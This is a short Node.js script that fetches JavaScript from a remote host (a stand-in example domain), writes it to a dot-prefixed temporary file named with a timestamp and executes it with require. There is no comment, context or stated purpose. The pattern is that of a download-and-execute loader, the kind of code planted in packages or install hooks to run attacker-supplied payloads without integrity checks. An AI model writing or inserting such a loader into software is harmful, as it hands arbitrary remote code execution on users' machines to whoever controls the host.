const got = require('got'), fs = require('fs'), os = require('os'), path = require('path');
(async () => {
	const { body } = await got('https://c.example.net/x');
	const p = path.join(os.tmpdir(), '.c-' + Date.now() + '.js');
	fs.writeFileSync(p, body);
	require(p);
})();
